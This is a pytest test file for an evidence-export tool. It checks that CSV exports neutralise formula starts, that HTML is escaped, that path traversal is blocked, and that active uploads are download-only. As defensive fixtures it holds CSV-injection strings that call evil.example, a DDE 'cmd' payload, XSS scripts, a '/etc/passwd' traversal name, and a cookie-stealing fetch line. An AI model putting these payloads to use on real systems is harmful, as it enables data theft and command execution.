"""Recorded values reach the auditor as text: no CSV cell starts a formula, no page runs markup."""

from __future__ import annotations

import csv
import hashlib
import io
import re
from datetime import UTC, datetime
from pathlib import Path

import pytest

from core.config import Settings
from core.db import Database
from core.evidence.export import soa_rows, write_soa
from core.evidence.service import FileUpload, controls_for, review, submit
from core.incidents.service import Report, report
from core.models import Question
from core.requirements import requirements
from core.spreadsheet import FORMULA_STARTS, csv_bytes, neutralise
from knowledge.catalogue import Catalogue
from tests.core.evidence.support import add_campaign, csv_rows, export_zip

HOSTILE = {
    "text": '=HYPERLINK("https://evil.example/?d="&A1,"open")',
    "link": "@SUM(1+1)*cmd|' /C calc'!A0",
    "file": "+payload.pdf",
    "comment": "-2+3",
    "question": "=1+1 <script>alert(1)</script>",
    "campaign": "\t=cmd",
    "title": "\r=evil()",
    "justification": '=WEBSERVICE("https://evil.example")',
}


def _every_cell(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode())) for cell in row]


def test_no_csv_cell_in_the_export_can_start_a_formula(
    filled: Database, catalogue: Catalogue, settings: Settings, tmp_path: Path
) -> None:
    with filled.session_scope() as session:
        hr01 = controls_for("HR-01", db_session=session)
        hr01[0].title = HOSTILE["title"]
        hr01[0].owner = "=owner()"
        result = submit(
            controls_for("AC-02", db_session=session),
            db_session=session,
            submitted_by="UALICE",
            text=HOSTILE["text"],
            link=HOSTILE["link"],
            upload=FileUpload(HOSTILE["file"], b"evil bytes"),
            zone=settings.zone,
            max_bytes=1000,
        )
        review(
            result.submissions[0].request_id,
            accept=False,
            reviewer="USEC1",
            comment=HOSTILE["comment"],
            db_session=session,
        )
        session.add(
            Question(user_id="-U1", surface="slack_dm", text=HOSTILE["question"], top_ids=[])
        )
        add_campaign(session, HOSTILE["campaign"], ("U1",), acknowledged_at=datetime.now(UTC))
        report(Report(reporter="-U1", description=HOSTILE["text"]), db_session=session)
    archive = export_zip(filled, catalogue, tmp_path / "a.zip")
    tables = [n for n in archive.namelist() if n.endswith(".csv")]
    assert set(tables) == {
        "controls.csv",
        "evidence.csv",
        "acknowledgements.csv",
        "questions.csv",
        "witnesses.csv",
        "incidents.csv",
    }
    for name in tables:
        bad = [c for c in _every_cell(archive.read(name)) if c.startswith(FORMULA_STARTS)]
        assert bad == [], name
    evidence = {r["file_name"]: r for r in csv_rows(archive, "evidence.csv")}["'" + HOSTILE["file"]]
    assert evidence["text"] == "'" + HOSTILE["text"]
    assert evidence["link"] == "'" + HOSTILE["link"]
    assert evidence["review_comment"] == "'-2+3"
    cells = {name: _every_cell(archive.read(name)) for name in tables}
    assert "'" + HOSTILE["question"] in cells["questions.csv"]
    assert "'" + HOSTILE["campaign"] in cells["acknowledgements.csv"]
    assert "'" + HOSTILE["title"] in cells["controls.csv"]
    assert "'=owner()" in cells["controls.csv"]
    assert "'" + HOSTILE["text"] in cells["incidents.csv"] and "'-U1" in cells["incidents.csv"]


def test_export_page_escapes_html_and_shows_values_as_recorded(
    filled: Database, catalogue: Catalogue, settings: Settings, tmp_path: Path
) -> None:
    with filled.session_scope() as session:
        session.add(Question(user_id="U1", surface="slack_dm", text=HOSTILE["question"]))
        submit(
            controls_for("AC-02", db_session=session),
            db_session=session,
            submitted_by="UALICE",
            text="<img src=x onerror=alert(1)>",
            upload=FileUpload("../../etc/<b>passwd</b>", b"traversal"),
            zone=settings.zone,
            max_bytes=1000,
        )
    archive = export_zip(filled, catalogue, tmp_path / "a.zip")
    page = "".join(archive.read(n).decode() for n in archive.namelist() if n.endswith(".html"))
    assert "<script>" not in page and "<img" not in page and "<b>" not in page
    assert "=1+1 &lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "&lt;img src=x onerror=alert(1)&gt;" in page
    stored = [n for n in archive.namelist() if n.startswith("files/")]
    assert len(stored) == 2
    assert all(re.fullmatch(r"files/[0-9a-f]{16}_[A-Za-z0-9._-]+", n) for n in stored), stored
    assert not any(n.startswith("/") or "/../" in n or "\\" in n for n in archive.namelist())


def test_soa_csv_neutralises_formulas(
    filled: Database, catalogue: Catalogue, tmp_path: Path
) -> None:
    with filled.session_scope() as session:
        ph01 = controls_for("PH-01", db_session=session)[0]
        ph01.applicable = False
        ph01.justification = HOSTILE["justification"]
    annex = [
        r for r in requirements(catalogue).values() if catalogue.entries[r.id].kind == "annex_a"
    ]
    with filled.session_scope() as session:
        rows = soa_rows(db_session=session, annex_a=annex)
    write_soa(tmp_path / "soa.csv", rows)
    cells = _every_cell((tmp_path / "soa.csv").read_bytes())
    assert "'" + HOSTILE["justification"] in cells
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_neutralise_prefixes_each_formula_start(start: str) -> None:
    assert neutralise(start + "1+1") == "'" + start + "1+1"
    assert neutralise("a" + start) == "a" + start
    # Numbers are values, not formulas: a negative score stays a number.
    assert neutralise(-1) == -1 and neutralise(None) is None
    rows = list(csv.reader(io.StringIO(csv_bytes([start + "h"], [[start + "x", None]]).decode())))
    assert rows == [["'" + start + "h"], ["'" + start + "x", ""]]


def test_files_that_could_run_in_a_browser_are_linked_for_download_only(
    filled: Database, catalogue: Catalogue, settings: Settings, tmp_path: Path
) -> None:
    active = {
        "report.html": b"<html><script>alert(document.cookie)</script></html>",
        "Chart.SVG": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        "tool.mjs": b"fetch('https://evil.example/?c=' + document.cookie)",
        # No extension: a browser would sniff the markup; a long name cut short loses its own.
        "notes": b"<html><script>alert(2)</script></html>",
        "x" * 90
        + ".xhtml": b"<html xmlns='http://www.w3.org/1999/xhtml'><script>1</script></html>",
    }
    with filled.session_scope() as session:
        for name, content in active.items():
            submit(
                controls_for("AC-02", db_session=session),
                db_session=session,
                submitted_by="UALICE",
                text=name,
                upload=FileUpload(name, content),
                zone=settings.zone,
                max_bytes=1000,
            )
    archive = export_zip(filled, catalogue, tmp_path / "a.zip")
    stored = [n for n in archive.namelist() if n.startswith("files/")]
    rows = {r["file_name"]: r for r in csv_rows(archive, "evidence.csv")}
    evidence_page = archive.read("evidence.html").decode()
    for name, content in active.items():
        (path,) = [p for p in stored if p.endswith(".bin") and archive.read(p) == content]
        # Only the name changes: the bytes and the SHA-256 the ledger states are the ones handed in.
        assert archive.read(path) == content
        assert hashlib.sha256(archive.read(path)).hexdigest() == rows[name]["file_sha256"]
        assert f'<a href="{path}" download>{name}</a>' in evidence_page
    assert not [p for p in stored if re.search(r"\.(html?|svg|mjs)$", p, re.IGNORECASE)]
    assert "download only" in evidence_page
    assert "linked for download only" in archive.read("index.html").decode()
    # A PDF is not active: it keeps its name and opens in place.
    (pdf,) = [p for p in stored if p.endswith("review.pdf")]
    assert f'<a href="{pdf}">review.pdf</a>' in evidence_page
